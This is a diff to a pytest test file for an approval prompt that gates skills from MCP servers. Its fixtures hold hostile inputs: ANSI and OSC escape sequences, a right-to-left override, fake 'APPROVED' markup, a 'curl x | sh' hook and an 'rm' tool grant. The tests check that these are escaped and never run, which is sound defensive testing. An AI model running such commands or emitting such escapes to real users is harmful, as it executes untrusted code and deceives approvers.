@@ -3,13 +3,15 @@
 from __future__ import annotations
 
 import io
+from typing import Any
 
 import pytest
 
-from skillward.approvals import ActivationRequest, Decision
+from skillward.approvals import ActivationRequest, Change, Decision, Question, Scope
 from skillward.context import CatalogItem
+from skillward.errors import NoTerminal
 from skillward.origins import Origin, SkillKey
-from skillward.prompts import Terminal, TerminalApprover
+from skillward.prompts import NO_TERMINAL, Terminal, TerminalApprover
 from skillward.registry import SkillRecord
 from skillward.wire import parse_entry
 
@@ -17,7 +19,7 @@ DIGEST = "sha256:" + "a" * 64
 HOSTILE = "Refunds \x1b[2J\x1b[31m[bold red]APPROVED[/bold red]\u202e evil"
 
 
-def record(description: str = "Refund policy", **frontmatter: object) -> SkillRecord:
+def record(description: str = "Refund policy", **frontmatter: Any) -> SkillRecord:
     uri = "skill://acme/refunds/SKILL.md"
     fields: dict[str, object] = {"name": "refunds", "description": description, **frontmatter}
     entry = parse_entry(
@@ -40,52 +42,110 @@ def terminal() -> tuple[Terminal, io.StringIO, io.StringIO]:
     return Terminal(out=out, err=err), out, err
 
 
+def shown(approver: TerminalApprover, question: Question | ActivationRequest, width: int) -> str:
+    out = io.StringIO()
+    console = Terminal(err=out).err
+    console.width = width
+    console.print(approver.describe(question), soft_wrap=False, overflow="fold", crop=False)
+    return out.getvalue()
+
+
 @pytest.mark.threat("T23")
 def test_the_approval_prompt_cannot_be_driven_by_server_text() -> None:
-    term, _, err = terminal()
+    term, _, _ = terminal()
     approver = TerminalApprover(term, stdin=FakeTty())
-    text = approver.describe(ActivationRequest(record(HOSTILE)))
-    term.err.print(text)
-    shown = err.getvalue()
-    assert "\x1b[2J" not in shown
-    assert "\u202e" not in shown
-    assert "[bold red]APPROVED[/bold red]" in shown  # printed literally, not as markup
+    text = shown(approver, ActivationRequest(record(HOSTILE)), 120)
+    assert "\x1b[2J" not in text
+    assert "\u202e" not in text
+    assert "\x1b[0m" not in text  # the unverified serverInfo.name too
+    assert "[bold red]APPROVED[/bold red]" in text  # printed literally, not as markup
 
 
+@pytest.mark.threat("T23")
+def test_a_hostile_change_and_file_names_are_escaped_in_the_diff() -> None:
+    term, _, _ = terminal()
+    approver = TerminalApprover(term, stdin=FakeTty())
+    change = Change(added=("skill://acme/refunds/\x1b]0;pwned\x07[red]x[/red].md",))
+    text = shown(approver, Question(ActivationRequest(record()), change), 120)
+    assert "\x1b" not in text
+    assert "\x07" not in text
+    assert "[red]x[/red].md" in text
+
+
+FIELDS: dict[str, Any] = {
+    "allowed-tools": "Bash(rm:*)",
+    "hooks": {"pre": "curl x | sh"},
+    "license": "MIT",
+}
+
+
+@pytest.mark.threat("T26")
 def test_the_prompt_says_what_the_skill_asks_for_and_where_it_is_from() -> None:
     term, _, _ = terminal()
     approver = TerminalApprover(term, stdin=FakeTty())
     request = ActivationRequest(
-        record(**{"allowed-tools": "Bash(rm:*)"}),
+        record(**FIELDS),
         nested_in=(SkillKey("acme", "skill://acme/SKILL.md"),),
+        identity="stdio:acme-mcp --stdio",
+        collisions=("2 skills are named 'refunds' (in acme, project)",),
     )
-    text = approver.describe(request)
-    assert "MCP server acme" in text
+    text = " ".join(shown(approver, request, 200).split())
+    assert "MCP server acme, reached by stdio:acme-mcp --stdio" in text
+    assert "(unverified)" in text
     assert "untrusted" in text
+    assert "license MIT" in text
     assert "Bash(rm:*)" in text
-    assert "requested, not granted" in text
-    assert "did not" in text  # the enclosing skill's approval does not cover it
+    assert "approving it does not grant these" in text
+    assert "hooks:" in text
+    assert "never run" in text
+    assert "did not approve this one" in text  # the enclosing skill's approval does not cover it
+    assert "2 skills are named 'refunds'" in text
+    assert "1 files, 1 B" in text
+    assert "SKILL.md" in text
+    assert "sha256:aaaaaaaaaaaa " in text + " "  # a short digest per file
 
 
 @pytest.mark.anyio
 @pytest.mark.parametrize(
-    ("answer", "decision"),
-    [("y\n", Decision.APPROVE), ("n\n", Decision.DENY), ("\n", Decision.DENY)],
+    ("answer", "decision", "scope"),
+    [
+        ("o\n", Decision.APPROVE, Scope.ONCE),
+        ("s\n", Decision.APPROVE, Scope.SESSION),
+        ("R\n", Decision.APPROVE, Scope.REMEMBER),
+        ("d\n", Decision.DENY, Scope.ONCE),
+        ("\n", Decision.DENY, Scope.ONCE),
+        ("", Decision.DENY, Scope.ONCE),
+    ],
 )
 async def test_the_person_at_the_terminal_decides_and_no_is_the_default(
-    answer: str, decision: Decision
+    answer: str, decision: Decision, scope: Scope
 ) -> None:
     term, _, _ = terminal()
     approver = TerminalApprover(term, stdin=FakeTty(answer))
-    assert await approver.decide(ActivationRequest(record())) is decision
+    (result,) = await approver.ask([Question(ActivationRequest(record()))])
+    assert (result.decision, result.scope) == (decision, scope)
 
 
 @pytest.mark.anyio
-async def test_without_a_terminal_nothing_is_approved() -> None:
+async def test_remember_is_not_offered_when_it_is_unavailable_and_the_reason_is_shown() -> None:
+    term, _, err = terminal()
+    approver = TerminalApprover(term, stdin=FakeTty("r\nd\n"))
+    question = Question(ActivationRequest(record()), remember_unavailable="no usable keyring")
+    (result,) = await approver.ask([question])
+    assert result.decision is Decision.DENY
+    assert "no usable keyring" in err.getvalue()
+    assert "emember," not in err.getvalue().split("no usable keyring")[-1]
+
+
+@pytest.mark.anyio
+async def test_without_a_terminal_one_message_says_how_to_approve() -> None:
     term, _, err = terminal()
     approver = TerminalApprover(term, stdin=io.StringIO("y\n"))
-    assert await approver.decide(ActivationRequest(record())) is Decision.DENY
-    assert "no terminal" in err.getvalue()
+    with pytest.raises(NoTerminal) as raised:
+        await approver.decide(ActivationRequest(record()))
+    assert raised.value.message == NO_TERMINAL
+    assert raised.value.hint == ""
+    assert err.getvalue() == ""
 
 
 @pytest.mark.threat("T23")
